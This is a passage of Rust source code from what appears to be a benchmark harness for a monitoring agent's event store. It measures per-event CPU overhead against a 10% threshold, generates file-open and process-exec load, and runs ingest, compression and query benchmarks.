                    .map(|r| f(&r[i]) / r[i][2].max(1.0) * 1e6)
                    .collect(),
            )
        };
        let all = |v: &[[Load; 2]]| {
            v.iter()
                .map(|r| format!("{:.1}", r[i][0] / r[i][2].max(1.0) * 1e6))
                .collect::<Vec<_>>()
                .join(", ")
        };
        let (a, b) = (per(&off, |l| l[0]), per(&on, |l| l[0]));
        let verdict = if b / a <= 1.10 { "PASS" } else { "FAIL" };
        println!("| {what}: agent CPU per event, whole process | {a:.1} µs ({}) | {b:.1} µs ({}) | {:.3} | {verdict} against 1.10 |", all(&off), all(&on), b / a);
        let (la, lb) = (per(&off, |l| l[0] - l[1]), per(&on, |l| l[0] - l[1]));
        println!("| same, without the writer's thread (ring buffer, outputs, API) | {la:.1} µs | {lb:.1} µs | {:.3} | the writer's thread: {:.1} µs per event |", lb / la, per(&on, |l| l[1]));
        let med = |v: &[[Load; 2]], j: usize| median(v.iter().map(|r| r[i][j]).collect());
        let (committed, shed): (f64, f64) = (
            on.iter().map(|r| r[i][3]).sum(),
            on.iter().map(|r| r[i][4]).sum(),
        );
        println!("| same: the workload's rate; events published | {:.0}/s; {:.0} | {:.0}/s; {:.0} | {:.3} | store: {committed} committed, {shed} shed, all rounds |", med(&off, 5), med(&off, 2), med(&on, 5), med(&on, 2), med(&on, 5) / med(&off, 5));
    }
}

fn open_loop(path: &str) {
    let start = Instant::now();
    for _ in 0..OPENS {
        drop(std::fs::File::open(path).expect("open"));
    }
    println!("{}", OPENS as f64 / start.elapsed().as_secs_f64());
}

fn exec_loop(n: usize) {
    let start = Instant::now();
    let run =
        || (0..n / 2).for_each(|_| assert!(Command::new("/bin/true").status().unwrap().success()));
    std::thread::scope(|s| {
        s.spawn(run);
        s.spawn(run);
    });
    println!("{}", n as f64 / start.elapsed().as_secs_f64());
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    match args.get(1).map(String::as_str) {
        Some("--open-loop") => return open_loop(&args[2]),
        Some("--exec-loop") => return exec_loop(args[2].parse().unwrap()),
        _ => {}
    }
    let flag = |name: &str| {
        args.iter()
            .position(|a| a == name)
            .map(|i| args[i + 1].clone())
    };
    let n: u64 = flag("--events")
        .or_else(|| std::env::var("VIGIL_BENCH_STORE_EVENTS").ok())
        .map_or(10_000_000, |s| {
            s.replace('_', "").parse().expect("--events N")
        });
    assert!(n >= 100_000, "--events: at least 100000");
    let temp = TempDir::new("bench-store");
    let dir: PathBuf = flag("--dir").map_or_else(|| temp.path().to_path_buf(), PathBuf::from);
    for old in ["store", "ingest"] {
        assert!(
            !dir.join(old).exists(),
            "{} holds a store already",
            dir.display()
        );
    }
    println!("vigil-bench-store: {n} events, in {}", dir.display());
    println!("\n| the store | |\n|---|---|");
    ingest(&dir, n);
    compression();
    let g = build(&dir.join("store"), n);
    queries(&dir.join("store").join(vigil_store::DB_FILE), &g);
    if !args.iter().any(|a| a == "--no-agent") {
        agent_rows();
    }
}
